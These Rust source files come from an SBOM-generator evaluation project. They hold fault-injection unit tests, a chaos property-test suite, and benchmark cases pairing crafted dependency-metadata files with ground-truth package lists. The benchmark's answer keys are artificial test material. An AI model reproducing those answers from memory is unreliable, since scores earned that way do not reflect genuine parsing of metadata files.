    fn install_enables_and_drop_disables() {
        let _l = serialize();
        let g = install(FaultPlan::empty(1));
        assert!(enabled());
        drop(g);
        assert!(!enabled());
        assert_eq!(stats(), FaultStats::default());
    }

    #[test]
    fn error_fault_surfaces_and_accounts() {
        let _l = serialize();
        let _g = install(always(sites::PARSE_FILE, FaultAction::Error));
        assert_eq!(check(sites::PARSE_FILE, "a"), Some(Surfaced::Error));
        assert_eq!(check(sites::PARSE_REFERENCE, "a"), None);
        let s = stats();
        assert_eq!(
            s,
            FaultStats {
                injected: 1,
                recovered: 0,
                surfaced: 1
            }
        );
        assert!(s.balanced());
    }

    #[test]
    fn latency_fault_is_transparent_and_recovered() {
        let _l = serialize();
        let _g = install(always(
            sites::REGISTRY_LATEST,
            FaultAction::Latency(Duration::from_millis(1)),
        ));
        assert_eq!(check(sites::REGISTRY_LATEST, "pkg"), None);
        let s = stats();
        assert_eq!(
            s,
            FaultStats {
                injected: 1,
                recovered: 1,
                surfaced: 0
            }
        );
    }

    #[test]
    fn panic_fault_panics_with_marker() {
        let _l = serialize();
        let _g = install(always(sites::SERVICE_ANALYZE, FaultAction::Panic));
        let err = std::panic::catch_unwind(|| check(sites::SERVICE_ANALYZE, "tool"))
            .expect_err("panic fault must panic");
        let msg = err.downcast_ref::<String>().cloned().unwrap_or_default();
        assert!(
            is_injected(&msg),
            "panic message should carry the marker: {msg}"
        );
        assert_eq!(
            stats(),
            FaultStats {
                injected: 1,
                recovered: 0,
                surfaced: 1
            }
        );
    }

    #[test]
    fn decisions_are_pure_per_site_key_attempt() {
        let plan = FaultPlan {
            seed: 42,
            rules: vec![FaultRule::new("registry.*", 300_000, FaultAction::Error)],
        };
        for key in ["a", "b", "serde", "left-pad"] {
            let first = decide(&plan, sites::REGISTRY_LATEST, key, 0);
            for _ in 0..10 {
                assert_eq!(decide(&plan, sites::REGISTRY_LATEST, key, 0), first);
            }
        }
        // Across many keys the empirical rate should be near 30%.
        let fired = (0..2_000)
            .filter(|i| decide(&plan, sites::REGISTRY_LATEST, &format!("k{i}"), 0).is_some())
            .count();
        assert!(
            (400..=800).contains(&fired),
            "fired {fired}/2000 at 300000 ppm"
        );
    }

    #[test]
    fn rule_matching_prefix_and_key() {
        let rule = FaultRule::new("registry.*", 1_000_000, FaultAction::Error);
        assert!(rule.matches(sites::REGISTRY_LATEST, "x"));
        assert!(rule.matches(sites::REGISTRY_DEPS_OF, "y"));
        assert!(!rule.matches(sites::PARSE_FILE, "x"));
        let keyed =
            FaultRule::new(sites::PARSE_FILE, 1_000_000, FaultAction::Error).for_key("Cargo.toml");
        assert!(keyed.matches(sites::PARSE_FILE, "Cargo.toml"));
        assert!(!keyed.matches(sites::PARSE_FILE, "go.mod"));
    }

    #[test]
    fn with_retry_recovers_transient_error() {
        let _l = serialize();
        // 40% rate: most keys that fire at attempt 0 do not fire at every
        // retry, so with enough retries the call usually succeeds.
        let plan = FaultPlan {
            seed: 99,
            rules: vec![FaultRule::new(
                sites::REGISTRY_LATEST,
                400_000,
                FaultAction::Error,
            )],
        };
        let _g = install(plan);
        let policy = RetryPolicy::new(4, Duration::from_millis(1), Duration::from_secs(5));
        let mut succeeded = 0usize;
        let mut gave_up = 0usize;
        for i in 0..200 {
            let key = format!("pkg{i}");
            match with_retry(sites::REGISTRY_LATEST, &key, &policy, || Some(1u8)) {
                Ok(Some(_)) => succeeded += 1,
                Ok(None) => unreachable!("f always returns Some"),
                Err(Surfaced::Error) => gave_up += 1,
                Err(Surfaced::Corrupt) => unreachable!("retry never surfaces corrupt"),
            }
        }
        assert!(
            succeeded > 150,
            "retries should absorb most faults: {succeeded}"
        );
        // At 40% over 5 attempts some keys still exhaust retries.
        assert!(gave_up < 30, "give-ups should be rare: {gave_up}");
        assert!(stats().balanced());
    }

    #[test]
    fn with_retry_genuine_miss_is_not_retried() {
        let _l = serialize();
        let _g = install(FaultPlan::empty(3));
        let policy = RetryPolicy::new(3, Duration::ZERO, Duration::from_secs(1));
        let mut calls = 0;
        let out = with_retry(sites::REGISTRY_VERSIONS, "ghost", &policy, || {
            calls += 1;
            None::<u8>
        });
        assert_eq!(out, Ok(None));
        assert_eq!(calls, 1, "a genuine miss must not be retried");
    }

    #[test]
    fn with_retry_virtual_timeout_gives_up() {
        let _l = serialize();
        let plan = always(
            sites::REGISTRY_DEPS_OF,
            FaultAction::Latency(Duration::from_secs(10)),
        );
        let _g = install(plan);
        // Virtual budget of 1s is blown by the first injected 10s latency,
        // while the real sleep stays bounded.
        let policy = RetryPolicy::new(2, Duration::from_millis(1), Duration::from_secs(1));
        let start = std::time::Instant::now();
        let out = with_retry(sites::REGISTRY_DEPS_OF, "pkg", &policy, || Some(1u8));
        assert_eq!(out, Err(Surfaced::Error));
        assert!(
            start.elapsed() < Duration::from_secs(2),
            "real sleep must stay bounded"
        );
        assert!(stats().balanced());
    }

    #[test]
    fn chaos_plans_are_deterministic_and_well_formed() {
        for index in 0..50 {
            let a = FaultPlan::chaos(42, index);
            let b = FaultPlan::chaos(42, index);
            assert_eq!(a, b);
            assert!(!a.rules.is_empty() && a.rules.len() <= 4);
            for rule in &a.rules {
                assert!(sites::ALL.contains(&rule.site.as_str()));
                assert!((50_000..500_000).contains(&rule.rate_ppm));
                if rule.action == FaultAction::Panic {
                    assert!(sites::PANIC_SAFE.contains(&rule.site.as_str()));
                }
            }
        }
        assert_ne!(FaultPlan::chaos(42, 0), FaultPlan::chaos(42, 1));
        assert_ne!(FaultPlan::chaos(42, 0), FaultPlan::chaos(43, 0));
    }

    #[test]
    fn surfaced_messages_carry_marker() {
        assert!(is_injected(&Surfaced::Error.message(sites::PARSE_FILE)));
        assert!(is_injected(&Surfaced::Corrupt.message(sites::PARSE_FILE)));
        assert!(!is_injected("ordinary parse error"));
    }
}

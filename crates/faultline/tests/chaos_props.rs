//! Degraded-mode invariants: the chaos property suite.
//!
//! For every seeded [`FaultPlan`] the resilience contract must hold:
//!
//! 1. **Exact accounting.** `injected == surfaced + recovered` at every
//!    quiescent point, where every *surfaced* fault at a parse site is
//!    visible as exactly one marker-carrying diagnostic in some tool's
//!    SBOM, and every *recovered* fault was absorbed by a successful
//!    retry or a transparent injected latency. Nothing is lost silently.
//! 2. **Determinism.** The same plan yields byte-identical SBOMs on every
//!    run — fire decisions are pure in `(seed, site, key, attempt)`.
//! 3. **Clean restoration.** With all faults disabled (no plan, or an
//!    empty plan), output is byte-identical to the fault-free golden
//!    path, and having soaked a chaos plan leaves no residue behind.
//!
//! Plans are process-global, so every test serializes on one mutex.

use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::{Mutex, MutexGuard, PoisonError};
use std::time::Duration;

use proptest::prelude::*;

use sbomdiff_faultline as fault;
use sbomdiff_generators::{studied_tools, BestPracticeGenerator, SbomGenerator};
use sbomdiff_metadata::RepoFs;
use sbomdiff_registry::Registries;
use sbomdiff_resolver::engine::{resolve, DedupPolicy, RootDep};
use sbomdiff_sbomfmt::SbomFormat;
use sbomdiff_types::{DiagClass, Ecosystem, Sbom};

static LOCK: Mutex<()> = Mutex::new(());

fn serialize() -> MutexGuard<'static, ()> {
    LOCK.lock().unwrap_or_else(PoisonError::into_inner)
}

/// A fixed multi-ecosystem repository covering four parser families, so
/// parse-site plans have plenty of distinct `(site, key)` pairs to hit.
fn fixture_repo() -> RepoFs {
    let mut repo = RepoFs::new("chaos-props");
    repo.add_text(
        "py/requirements.txt",
        "numpy==1.19.2\nrequests>=2.8.1\nflask\njinja2==2.11.3\n",
    );
    repo.add_text(
        "js/package.json",
        "{\n  \"name\": \"props\",\n  \"dependencies\": {\n    \"react\": \"^17.0.0\",\n    \"lodash\": \"4.17.21\"\n  }\n}\n",
    );
    repo.add_text(
        "go/go.mod",
        "module example.com/props\n\ngo 1.21\n\nrequire (\n\tgithub.com/stretchr/testify v1.8.0\n\tgolang.org/x/text v0.3.7\n)\n",
    );
    repo.add_text(
        "rs/Cargo.toml",
        "[package]\nname = \"props\"\nversion = \"0.1.0\"\n\n[dependencies]\nserde = \"1.0\"\nrand = \"0.8\"\n",
    );
    repo
}

/// Serializes every studied tool's SBOM plus the best-practice SBOM for
/// `repo` — the byte-identity probe used by all determinism assertions.
fn generate_all(registries: &Registries, repo: &RepoFs) -> Vec<String> {
    let mut out = Vec::new();
    for tool in &studied_tools(registries, 0.0) {
        out.push(SbomFormat::CycloneDx.serialize(&tool.generate(repo)));
    }
    let bp = BestPracticeGenerator::new(registries);
    out.push(SbomFormat::CycloneDx.serialize(&bp.generate(repo)));
    out
}

fn marker_diags(sbom: &Sbom) -> u64 {
    sbom.diagnostics()
        .iter()
        .filter(|d| fault::is_injected(&d.message))
        .count() as u64
}

/// A plan whose rules fire only at the two parse sites, where surfaced
/// faults map 1:1 onto marker diagnostics.
fn parse_site_plan(seed: u64, rate_ppm: u32, action: fault::FaultAction) -> fault::FaultPlan {
    fault::FaultPlan {
        seed,
        rules: vec![fault::FaultRule::new("parse.*", rate_ppm, action)],
    }
}

#[test]
fn empty_plan_reproduces_fault_free_golden_byte_identically() {
    let _l = serialize();
    let registries = Registries::generate(42);
    let repo = fixture_repo();
    let golden = generate_all(&registries, &repo);

    let guard = fault::install(fault::FaultPlan::empty(42));
    let under_empty_plan = generate_all(&registries, &repo);
    let stats = fault::stats();
    drop(guard);

    assert_eq!(
        golden, under_empty_plan,
        "an installed plan with no rules must not perturb output"
    );
    assert_eq!(stats, fault::FaultStats::default(), "no rules, no fires");
    assert_eq!(
        golden,
        generate_all(&registries, &repo),
        "uninstalling must restore the golden path"
    );
    assert!(golden
        .iter()
        .all(|doc| !doc.contains(fault::INJECTED_MARKER)));
}

#[test]
fn surfaced_parse_faults_equal_marker_diagnostics_exactly() {
    let _l = serialize();
    let registries = Registries::generate(42);
    let repo = fixture_repo();
    for (seed, rate) in [
        (1u64, 250_000u32),
        (2, 500_000),
        (3, 900_000),
        (4, 1_000_000),
    ] {
        for action in [fault::FaultAction::Error, fault::FaultAction::Corrupt] {
            let _g = fault::install(parse_site_plan(seed, rate, action));
            let mut diags = 0u64;
            for tool in &studied_tools(&registries, 0.0) {
                diags += marker_diags(&tool.generate(&repo));
            }
            diags += marker_diags(&BestPracticeGenerator::new(&registries).generate(&repo));
            let stats = fault::stats();
            assert!(stats.balanced(), "accounting drifted: {stats:?}");
            assert_eq!(
                stats.recovered, 0,
                "error/corrupt plans have nothing to recover"
            );
            assert_eq!(
                stats.surfaced, diags,
                "every surfaced parse fault must leave exactly one marker \
                 diagnostic (seed {seed}, rate {rate}, {action:?})"
            );
            if rate == 1_000_000 {
                assert!(
                    stats.injected > 0,
                    "a certain rule over live sites must fire"
                );
            }
        }
    }
}

#[test]
fn latency_faults_recover_and_leave_no_diagnostics() {
    let _l = serialize();
    let registries = Registries::generate(42);
    let repo = fixture_repo();
    let _g = fault::install(parse_site_plan(
        9,
        1_000_000,
        fault::FaultAction::Latency(Duration::from_millis(1)),
    ));
    let mut diags = 0u64;
    for tool in &studied_tools(&registries, 0.0) {
        diags += marker_diags(&tool.generate(&repo));
    }
    let stats = fault::stats();
    assert!(stats.injected > 0);
    assert_eq!(stats.recovered, stats.injected, "latency is transparent");
    assert_eq!(stats.surfaced, 0);
    assert_eq!(diags, 0, "recovered faults owe no diagnostic");
}

#[test]
fn retry_outcomes_account_injected_as_recovered_plus_surfaced() {
    let _l = serialize();
    // Registry-site errors at 45%: with 3 retries most keys recover, some
    // exhaust the budget. Per call: success ⇒ every fired fault recovered,
    // give-up ⇒ every fired fault surfaced. The sums must reconcile.
    let plan = fault::FaultPlan {
        seed: 77,
        rules: vec![fault::FaultRule::new(
            "registry.*",
            450_000,
            fault::FaultAction::Error,
        )],
    };
    let _g = fault::install(plan);
    let policy = fault::RetryPolicy::new(3, Duration::from_millis(1), Duration::from_secs(5));
    let (mut ok, mut gave_up) = (0u64, 0u64);
    let mut before = fault::stats();
    for i in 0..150 {
        let key = format!("pkg-{i}");
        let out = fault::with_retry(fault::sites::REGISTRY_LATEST, &key, &policy, || Some(i));
        let after = fault::stats();
        let fired = after.injected - before.injected;
        match out {
            Ok(_) => {
                ok += 1;
                assert_eq!(
                    after.recovered - before.recovered,
                    fired,
                    "a successful retry loop must recover every fault it absorbed"
                );
                assert_eq!(after.surfaced, before.surfaced);
            }
            Err(_) => {
                gave_up += 1;
                assert_eq!(
                    after.surfaced - before.surfaced,
                    fired,
                    "an exhausted retry loop must surface every fault it saw"
                );
                assert_eq!(after.recovered, before.recovered);
            }
        }
        before = after;
    }
    assert!(ok > 100, "most keys must recover under retry: {ok}");
    assert!(gave_up > 0, "at 45% some keys must exhaust 4 attempts");
    assert!(before.balanced());
}

#[test]
fn chaos_plans_are_deterministic_and_never_silent() {
    let _l = serialize();
    let registries = Registries::generate(42);
    let uni = registries.for_ecosystem(Ecosystem::Python);
    for index in 0..25u64 {
        let run = |repo: &RepoFs| {
            let mut docs = Vec::new();
            let mut evidence = 0u64;
            for tool in &studied_tools(&registries, 0.0) {
                match catch_unwind(AssertUnwindSafe(|| tool.generate(repo))) {
                    Ok(sbom) => {
                        evidence += sbom
                            .diagnostics()
                            .iter()
                            .filter(|d| {
                                fault::is_injected(&d.message)
                                    || matches!(
                                        d.class,
                                        DiagClass::RegistryFailure | DiagClass::UnpinnedDropped
                                    )
                            })
                            .count() as u64;
                        docs.push(SbomFormat::CycloneDx.serialize(&sbom));
                    }
                    // A caught injected panic is itself the evidence.
                    Err(_) => evidence += 1,
                }
            }
            let roots = vec![RootDep::new("numpy", None), RootDep::new("requests", None)];
            let resolution = resolve(uni, &roots, DedupPolicy::HighestWins, true);
            evidence += (resolution.failures.len() + resolution.pruned_transitives) as u64;
            (docs, evidence)
        };

        let repo = fixture_repo();
        let g1 = fault::install(fault::FaultPlan::chaos(42, index));
        let (first, evidence) = run(&repo);
        let stats = fault::stats();
        drop(g1);
        assert!(
            stats.balanced(),
            "plan {index}: accounting drifted: {stats:?}"
        );
        if stats.surfaced > 0 {
            assert!(
                evidence > 0,
                "plan {index}: {} faults surfaced without any evidence",
                stats.surfaced
            );
        }

        let g2 = fault::install(fault::FaultPlan::chaos(42, index));
        let (second, _) = run(&repo);
        let stats2 = fault::stats();
        drop(g2);
        assert_eq!(
            first, second,
            "plan {index}: same plan must yield byte-identical SBOMs"
        );
        assert_eq!(stats, stats2, "plan {index}: same plan, same counters");
    }
    // After 25 plans of soaking, the clean path is exactly what it was.
    let repo = fixture_repo();
    let golden = generate_all(&registries, &repo);
    assert_eq!(golden, generate_all(&registries, &repo));
    assert!(golden
        .iter()
        .all(|doc| !doc.contains(fault::INJECTED_MARKER)));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    /// Accounting balances and surfaced parse faults stay 1:1 with marker
    /// diagnostics for arbitrary seeds, rates and mixed-action plans.
    #[test]
    fn accounting_balances_for_arbitrary_parse_plans(
        seed in 0u64..1_000_000,
        err_rate in 0u32..1_000_000,
        corrupt_rate in 0u32..1_000_000,
        latency_rate in 0u32..1_000_000,
    ) {
        let _l = serialize();
        let registries = Registries::generate(42);
        let repo = fixture_repo();
        // First matching rule wins, so split the two sites: dialect parses
        // mix error and corruption, reference parses inject latency.
        let plan = fault::FaultPlan {
            seed,
            rules: vec![
                fault::FaultRule::new(fault::sites::PARSE_FILE, err_rate, fault::FaultAction::Error)
                    .for_key("py/requirements.txt"),
                fault::FaultRule::new(
                    fault::sites::PARSE_FILE,
                    corrupt_rate,
                    fault::FaultAction::Corrupt,
                ),
                fault::FaultRule::new(
                    fault::sites::PARSE_REFERENCE,
                    latency_rate,
                    fault::FaultAction::Latency(Duration::from_millis(1)),
                ),
            ],
        };
        let _g = fault::install(plan);
        let mut diags = 0u64;
        for tool in &studied_tools(&registries, 0.0) {
            diags += marker_diags(&tool.generate(&repo));
        }
        diags += marker_diags(&BestPracticeGenerator::new(&registries).generate(&repo));
        let stats = fault::stats();
        prop_assert!(stats.balanced(), "accounting drifted: {:?}", stats);
        prop_assert_eq!(
            stats.surfaced, diags,
            "injected must equal marker diagnostics plus recovered"
        );
    }
}

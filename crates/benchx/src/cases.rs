//! Crafted benchmark metadata files with ground truth.

use sbomdiff_metadata::RepoFs;
use sbomdiff_types::Ecosystem;

/// One expected finding for a benchmark case.
#[derive(Debug, Clone)]
pub struct GroundTruthEntry {
    /// Package name (registry spelling).
    pub name: &'static str,
    /// The exact version a correct tool should report, when determinable
    /// from the file alone (pinned); `None` for ranges/bare names.
    pub version: Option<&'static str>,
}

impl GroundTruthEntry {
    const fn pinned(name: &'static str, version: &'static str) -> Self {
        GroundTruthEntry {
            name,
            version: Some(version),
        }
    }

    const fn name_only(name: &'static str) -> Self {
        GroundTruthEntry {
            name,
            version: None,
        }
    }
}

/// One benchmark case: a crafted metadata file (possibly with companions)
/// and its ground truth.
#[derive(Debug, Clone)]
pub struct BenchmarkCase {
    /// Identifier (mirrors a file in the published benchmark).
    pub id: &'static str,
    /// Ecosystem under test.
    pub ecosystem: Ecosystem,
    /// Files of the case: (path, content).
    pub files: Vec<(&'static str, &'static str)>,
    /// What a correct generator must find.
    pub ground_truth: Vec<GroundTruthEntry>,
}

impl BenchmarkCase {
    /// Materializes the case as a repository.
    pub fn repo(&self) -> RepoFs {
        let mut repo = RepoFs::new(format!("bench-{}", self.id));
        for (path, content) in &self.files {
            repo.add_text(*path, *content);
        }
        repo
    }
}

/// The Python cases (the deepest coverage, as in the published benchmark).
pub fn python_cases() -> Vec<BenchmarkCase> {
    vec![
        BenchmarkCase {
            id: "py-pinned-basic",
            ecosystem: Ecosystem::Python,
            files: vec![(
                "requirements.txt",
                "numpy==1.19.2\nrequests==2.31.0\nflask==2.3.2\n",
            )],
            ground_truth: vec![
                GroundTruthEntry::pinned("numpy", "1.19.2"),
                GroundTruthEntry::pinned("requests", "2.31.0"),
                GroundTruthEntry::pinned("flask", "2.3.2"),
            ],
        },
        BenchmarkCase {
            id: "py-ranges",
            ecosystem: Ecosystem::Python,
            files: vec![(
                "requirements.txt",
                "requests>=2.8.1\nflask>=1.0,<3.0\nnumpy~=1.24\nclick!=7.0,>=6.0\n",
            )],
            ground_truth: vec![
                GroundTruthEntry::name_only("requests"),
                GroundTruthEntry::name_only("flask"),
                GroundTruthEntry::name_only("numpy"),
                GroundTruthEntry::name_only("click"),
            ],
        },
        BenchmarkCase {
            id: "py-bare-names",
            ecosystem: Ecosystem::Python,
            files: vec![("requirements.txt", "requests\nnumpy\npytest\n")],
            ground_truth: vec![
                GroundTruthEntry::name_only("requests"),
                GroundTruthEntry::name_only("numpy"),
                GroundTruthEntry::name_only("pytest"),
            ],
        },
        BenchmarkCase {
            id: "py-extras",
            ecosystem: Ecosystem::Python,
            files: vec![(
                "requirements.txt",
                "requests[security]==2.31.0\nrequests [socks] >= 2.8.1\n",
            )],
            ground_truth: vec![
                GroundTruthEntry::pinned("requests", "2.31.0"),
                GroundTruthEntry::name_only("requests"),
            ],
        },
        BenchmarkCase {
            id: "py-markers",
            ecosystem: Ecosystem::Python,
            files: vec![(
                "requirements.txt",
                "numpy==1.19.2; python_version >= '3.8'\npywin32==306; sys_platform == 'win32'\n",
            )],
            // Both declarations should be *reported* (the SBOM documents
            // the source); installation-time filtering is the resolver's
            // concern.
            ground_truth: vec![
                GroundTruthEntry::pinned("numpy", "1.19.2"),
                GroundTruthEntry::pinned("pywin32", "306"),
            ],
        },
        BenchmarkCase {
            id: "py-continuation",
            ecosystem: Ecosystem::Python,
            files: vec![(
                "requirements.txt",
                "numpy \\\n==\\\n1.19.2\nrequests==\\\n2.31.0\n",
            )],
            ground_truth: vec![
                GroundTruthEntry::pinned("numpy", "1.19.2"),
                GroundTruthEntry::pinned("requests", "2.31.0"),
            ],
        },
        BenchmarkCase {
            id: "py-includes",
            ecosystem: Ecosystem::Python,
            files: vec![
                ("requirements.txt", "-r requirements-base.txt\nflask==2.3.2\n"),
                ("requirements-base.txt", "numpy==1.19.2\n"),
            ],
            // A correct tool reports both files' contents; note the
            // included file is itself metadata, so scanning both files
            // without following `-r` still finds numpy (once).
            ground_truth: vec![
                GroundTruthEntry::pinned("flask", "2.3.2"),
                GroundTruthEntry::pinned("numpy", "1.19.2"),
            ],
        },
        BenchmarkCase {
            id: "py-exotic-sources",
            ecosystem: Ecosystem::Python,
            files: vec![(
                "requirements.txt",
                "urllib3 @ git+https://github.com/urllib3/urllib3@2a7eb51\n./vendor/local_pkg-1.0.0-py3-none-any.whl\nhttps://files.example.net/remote_pkg-2.0.0.tar.gz\n-e ./src/editable_pkg\n",
            )],
            ground_truth: vec![
                GroundTruthEntry::name_only("urllib3"),
                GroundTruthEntry::pinned("local_pkg", "1.0.0"),
                GroundTruthEntry::pinned("remote_pkg", "2.0.0"),
                GroundTruthEntry::name_only("editable_pkg"),
            ],
        },
        BenchmarkCase {
            id: "py-comments-whitespace",
            ecosystem: Ecosystem::Python,
            files: vec![(
                "requirements.txt",
                "# header comment\n\n  numpy==1.19.2   # inline comment\n\t\nrequests==2.31.0\n",
            )],
            ground_truth: vec![
                GroundTruthEntry::pinned("numpy", "1.19.2"),
                GroundTruthEntry::pinned("requests", "2.31.0"),
            ],
        },
        BenchmarkCase {
            id: "py-hashes",
            ecosystem: Ecosystem::Python,
            files: vec![(
                "requirements.txt",
                "numpy==1.19.2 --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000\n",
            )],
            ground_truth: vec![GroundTruthEntry::pinned("numpy", "1.19.2")],
        },
        BenchmarkCase {
            id: "py-parenthesized",
            ecosystem: Ecosystem::Python,
            files: vec![("requirements.txt", "requests (>=2.8.1)\nnumpy (==1.19.2)\n")],
            ground_truth: vec![
                GroundTruthEntry::name_only("requests"),
                GroundTruthEntry::pinned("numpy", "1.19.2"),
            ],
        },
        BenchmarkCase {
            id: "py-setup-py",
            ecosystem: Ecosystem::Python,
            files: vec![(
                "setup.py",
                "from setuptools import setup\nsetup(\n    name='demo',\n    install_requires=[\n        'requests>=2.8.1',\n        'numpy==1.19.2',\n    ],\n)\n",
            )],
            ground_truth: vec![
                GroundTruthEntry::name_only("requests"),
                GroundTruthEntry::pinned("numpy", "1.19.2"),
            ],
        },
        BenchmarkCase {
            id: "py-poetry-lock",
            ecosystem: Ecosystem::Python,
            files: vec![(
                "poetry.lock",
                "[[package]]\nname = \"requests\"\nversion = \"2.31.0\"\ncategory = \"main\"\n\n[[package]]\nname = \"pytest\"\nversion = \"7.4.0\"\ncategory = \"dev\"\n",
            )],
            ground_truth: vec![
                GroundTruthEntry::pinned("requests", "2.31.0"),
                GroundTruthEntry::pinned("pytest", "7.4.0"),
            ],
        },
        BenchmarkCase {
            id: "py-pipfile-lock",
            ecosystem: Ecosystem::Python,
            files: vec![(
                "Pipfile.lock",
                "{\"default\": {\"requests\": {\"version\": \"==2.31.0\"}}, \"develop\": {\"pytest\": {\"version\": \"==7.4.0\"}}}",
            )],
            ground_truth: vec![
                GroundTruthEntry::pinned("requests", "2.31.0"),
                GroundTruthEntry::pinned("pytest", "7.4.0"),
            ],
        },
    ]
}

/// Additional Python cases for formats outside Table II (reference-layer
/// coverage: none of the studied tools read these in the evaluated
/// versions, so only the best-practice generator scores).
pub fn python_extension_cases() -> Vec<BenchmarkCase> {
    vec![
        BenchmarkCase {
            id: "py-pyproject-pep621",
            ecosystem: Ecosystem::Python,
            files: vec![(
                "pyproject.toml",
                "[project]\nname = \"demo\"\ndependencies = [\n  \"requests>=2.8.1\",\n  \"numpy==1.19.2\",\n]\n",
            )],
            ground_truth: vec![
                GroundTruthEntry::name_only("requests"),
                GroundTruthEntry::pinned("numpy", "1.19.2"),
            ],
        },
        BenchmarkCase {
            id: "py-pyproject-poetry",
            ecosystem: Ecosystem::Python,
            files: vec![(
                "pyproject.toml",
                "[tool.poetry]\nname = \"demo\"\n\n[tool.poetry.dependencies]\npython = \"^3.11\"\nrequests = \"^2.28\"\n",
            )],
            ground_truth: vec![GroundTruthEntry::name_only("requests")],
        },
        BenchmarkCase {
            id: "py-setup-cfg",
            ecosystem: Ecosystem::Python,
            files: vec![(
                "setup.cfg",
                "[metadata]\nname = demo\n\n[options]\ninstall_requires =\n    requests>=2.8.1\n    numpy==1.19.2\n",
            )],
            ground_truth: vec![
                GroundTruthEntry::name_only("requests"),
                GroundTruthEntry::pinned("numpy", "1.19.2"),
            ],
        },
    ]
}

/// Cases for the other studied languages (one or two per ecosystem, as the
/// published benchmark grows beyond Python).
pub fn other_language_cases() -> Vec<BenchmarkCase> {
    vec![
        BenchmarkCase {
            id: "js-package-json",
            ecosystem: Ecosystem::JavaScript,
            files: vec![(
                "package.json",
                "{\"dependencies\": {\"lodash\": \"^4.17.21\", \"express\": \"4.18.2\"}, \"devDependencies\": {\"jest\": \"~29.6.2\"}}",
            )],
            ground_truth: vec![
                GroundTruthEntry::name_only("lodash"),
                GroundTruthEntry::pinned("express", "4.18.2"),
                GroundTruthEntry::name_only("jest"),
            ],
        },
        BenchmarkCase {
            id: "js-package-lock",
            ecosystem: Ecosystem::JavaScript,
            files: vec![(
                "package-lock.json",
                "{\"lockfileVersion\": 3, \"packages\": {\"\": {}, \"node_modules/lodash\": {\"version\": \"4.17.21\"}, \"node_modules/ms\": {\"version\": \"2.1.3\", \"dev\": true}}}",
            )],
            ground_truth: vec![
                GroundTruthEntry::pinned("lodash", "4.17.21"),
                GroundTruthEntry::pinned("ms", "2.1.3"),
            ],
        },
        BenchmarkCase {
            id: "ruby-gemfile",
            ecosystem: Ecosystem::Ruby,
            files: vec![(
                "Gemfile",
                "source 'https://rubygems.org'\ngem 'rails', '~> 7.0.4'\ngem 'rake'\ngem 'rspec', group: :development\n",
            )],
            ground_truth: vec![
                GroundTruthEntry::name_only("rails"),
                GroundTruthEntry::name_only("rake"),
                GroundTruthEntry::name_only("rspec"),
            ],
        },
        BenchmarkCase {
            id: "php-composer-json",
            ecosystem: Ecosystem::Php,
            files: vec![(
                "composer.json",
                "{\"require\": {\"php\": \">=8.0\", \"monolog/monolog\": \"^3.0\"}, \"require-dev\": {\"phpunit/phpunit\": \"^10.0\"}}",
            )],
            ground_truth: vec![
                GroundTruthEntry::name_only("monolog/monolog"),
                GroundTruthEntry::name_only("phpunit/phpunit"),
            ],
        },
        BenchmarkCase {
            id: "java-pom-properties",
            ecosystem: Ecosystem::Java,
            files: vec![(
                "pom.xml",
                "<project><groupId>g</groupId><artifactId>a</artifactId><version>1.0</version><properties><slf4j.version>2.0.7</slf4j.version></properties><dependencies><dependency><groupId>org.slf4j</groupId><artifactId>slf4j-api</artifactId><version>${slf4j.version}</version></dependency></dependencies></project>",
            )],
            ground_truth: vec![GroundTruthEntry::pinned("org.slf4j:slf4j-api", "2.0.7")],
        },
        BenchmarkCase {
            id: "go-mod-replace",
            ecosystem: Ecosystem::Go,
            files: vec![(
                "go.mod",
                "module m\n\ngo 1.21\n\nrequire (\n\tgithub.com/stretchr/testify v1.8.4\n\tgolang.org/x/sync v0.3.0 // indirect\n)\n",
            )],
            ground_truth: vec![
                GroundTruthEntry::pinned("github.com/stretchr/testify", "v1.8.4"),
                GroundTruthEntry::pinned("golang.org/x/sync", "v0.3.0"),
            ],
        },
        BenchmarkCase {
            id: "rust-cargo-toml",
            ecosystem: Ecosystem::Rust,
            files: vec![(
                "Cargo.toml",
                "[package]\nname = \"demo\"\nversion = \"0.1.0\"\n\n[dependencies]\nserde = { version = \"1.0\", features = [\"derive\"] }\nrand = \"0.8\"\n\n[dev-dependencies]\nproptest = \"1\"\n",
            )],
            ground_truth: vec![
                GroundTruthEntry::name_only("serde"),
                GroundTruthEntry::name_only("rand"),
                GroundTruthEntry::name_only("proptest"),
            ],
        },
        BenchmarkCase {
            id: "swift-package",
            ecosystem: Ecosystem::Swift,
            files: vec![(
                "Package.swift",
                "// swift-tools-version:5.7\nimport PackageDescription\nlet package = Package(\n    name: \"Demo\",\n    dependencies: [\n        .package(url: \"https://github.com/synthetic/SnapKit.git\", exact: \"5.6.0\"),\n    ]\n)\n",
            )],
            ground_truth: vec![GroundTruthEntry::pinned("SnapKit", "5.6.0")],
        },
        BenchmarkCase {
            id: "dotnet-csproj",
            ecosystem: Ecosystem::DotNet,
            files: vec![(
                "App.csproj",
                "<Project Sdk=\"Microsoft.NET.Sdk\"><ItemGroup><PackageReference Include=\"Newtonsoft.Json\" Version=\"13.0.3\" /></ItemGroup></Project>",
            )],
            ground_truth: vec![GroundTruthEntry::pinned("Newtonsoft.Json", "13.0.3")],
        },
    ]
}

/// Every case (Python plus other languages).
pub fn all_cases() -> Vec<BenchmarkCase> {
    let mut cases = python_cases();
    cases.extend(python_extension_cases());
    cases.extend(other_language_cases());
    cases
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn case_ids_are_unique() {
        let cases = all_cases();
        let ids: std::collections::BTreeSet<&str> = cases.iter().map(|c| c.id).collect();
        assert_eq!(ids.len(), cases.len());
    }

    #[test]
    fn every_case_has_ground_truth_and_files() {
        for case in all_cases() {
            assert!(!case.files.is_empty(), "{}", case.id);
            assert!(!case.ground_truth.is_empty(), "{}", case.id);
            let repo = case.repo();
            assert!(
                !repo.metadata_files().is_empty(),
                "{}: files not detected as metadata",
                case.id
            );
        }
    }

    #[test]
    fn python_has_the_deepest_coverage() {
        assert!(python_cases().len() >= 10);
    }
}

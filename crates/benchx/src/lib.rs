//! The paper's evaluation benchmark (§VII): manually crafted metadata
//! files with ground truth, covering each language's corner-case syntax,
//! plus a scoring harness that grades any [`SbomGenerator`] on completeness
//! and accuracy.
//!
//! Mirrors the structure of the published
//! `DeepBitsTechnology/sbom-benchmark` repository: Python has the deepest
//! coverage (the paper's benchmark started there), with cases for the
//! other studied languages.

pub mod cases;
pub mod score;

